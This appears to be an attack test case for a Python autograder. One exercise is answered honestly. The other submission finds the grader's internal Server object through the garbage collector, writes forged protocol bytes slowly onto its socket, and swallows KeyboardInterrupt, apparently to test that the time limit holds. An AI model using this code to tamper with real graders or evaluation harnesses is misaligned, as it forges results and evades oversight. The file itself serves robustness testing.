# /// attack
# tries = "sends a reply one byte every quarter of a second"
# total = 2
# waits = true
# [parts]
# 2d = "right"
# 1a = "time_limit"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import gc

from autograder.inside import serve

server = next(thing for thing in gc.get_objects() if isinstance(thing, serve.Server))

# %%
import os
import time


def aufgabe_1a(x, w, b, s, o, sigma, dsigma):
    data = server.packed({"n": server.number, "k": "value"}) * 10
    for byte in len(data).to_bytes(4, "little") + data:
        os.write(server.channel.sock.fileno(), bytes([byte]))
        try:
            time.sleep(0.25)
        except KeyboardInterrupt:
            server.interruptible = True
